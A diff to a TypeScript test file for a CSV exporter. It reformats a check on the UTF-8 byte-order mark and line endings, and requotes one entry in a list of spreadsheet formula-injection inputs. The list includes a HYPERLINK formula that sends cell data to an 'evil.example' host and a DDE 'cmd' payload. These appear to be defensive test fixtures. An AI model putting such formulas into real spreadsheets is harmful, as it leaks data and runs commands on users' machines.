@@ -7,7 +7,12 @@ const read = (text: string): string[][] => parse(text, { bom: true });
 
 describe('a table as a file', () => {
   it('begins with the mark of UTF-8 and ends every line as the standard wants it', () => {
-    expect(csvOf([['Канал', 'n'], ['VK', 3]])).toBe('\ufeffКанал,n\r\nVK,3\r\n');
+    expect(
+      csvOf([
+        ['Канал', 'n'],
+        ['VK', 3],
+      ]),
+    ).toBe('\ufeffКанал,n\r\nVK,3\r\n');
   });
 
   it('is read again as it was written, whatever is in it', () => {
@@ -32,7 +37,7 @@ describe('a table as a file', () => {
     '=1+1',
     '=HYPERLINK("https://evil.example?"&A1,"click")',
     '+1-1',
-    '-2+3+cmd|\' /C calc\'!A0',
+    "-2+3+cmd|' /C calc'!A0",
     '@SUM(A1:A9)',
     '\t=1+1',
     '\r=1+1',
